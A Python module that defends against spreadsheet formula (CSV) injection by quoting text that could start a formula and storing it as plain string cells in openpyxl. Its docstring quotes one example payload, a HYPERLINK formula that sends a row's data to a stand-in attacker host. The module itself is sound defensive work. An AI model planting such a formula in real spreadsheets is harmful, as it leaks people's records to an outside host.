"""Every spreadsheet cell Journey writes goes through here, so that text stays text.

Why: a spreadsheet program treats text beginning with "=", "+", "-" or "@" as a formula, and a
leading tab or carriage return can hide one. A child's name such as
=HYPERLINK("http://evil.example/?"&B2,"Open record") would become a live link that sends the
row's data away when clicked (formula or "CSV" injection). openpyxl itself stores any string
beginning with "=" as a formula.

So, following OWASP's advice on CSV injection, text beginning with one of those characters is
written with a single quote in front (shown as written, never evaluated), and every text cell is
stored as a string cell: never a formula, never an error value. Numbers, dates, booleans and
empty cells are written as themselves: a negative number is a number, not text.

The cells work in openpyxl's write-only mode and in its normal mode (`sheet.append` takes them
in both). Build a row with `row`, or one cell with `cell` when it needs its own number format.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterable
from decimal import Decimal

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell
from openpyxl.styles import Font
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

#: What a cell may hold. Anything else is refused by openpyxl.
Value = str | int | float | Decimal | bool | dt.date | dt.datetime | dt.time | None
Sheet = Worksheet | WriteOnlyWorksheet

#: The first characters that make a spreadsheet program read text as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
BOLD = Font(bold=True)


def safe_text(text: str) -> str:
    """The text as it may be written to a spreadsheet: quoted if it could start a formula."""
    return QUOTE + text if text.startswith(FORMULA_STARTS) else text


def cell(sheet: Sheet, value: Value, *, number_format: str = "", bold: bool = False) -> Cell:
    """One cell for `sheet.append`: text neutralised and stored as text, anything else as is."""
    written = WriteOnlyCell(sheet)
    if isinstance(value, str):
        written.value = safe_text(str(value))
        written.data_type = "s"  # never "f" (formula) or "e" ("#N/A" is text here)
    else:
        written.value = value
    if number_format:
        written.number_format = number_format
    if bold:
        written.font = BOLD
    return written


def row(
    sheet: Sheet, values: Iterable[Value | Cell], *, date_format: str = "", bold: bool = False
) -> list[Cell]:
    """A row of cells for `sheet.append`. Dates take `date_format`; a cell already made with
    `cell` (for a format of its own) is kept as it is."""
    return [
        value
        if isinstance(value, Cell)
        else cell(
            sheet,
            value,
            number_format=date_format if isinstance(value, dt.date) else "",
            bold=bold,
        )
        for value in values
    ]
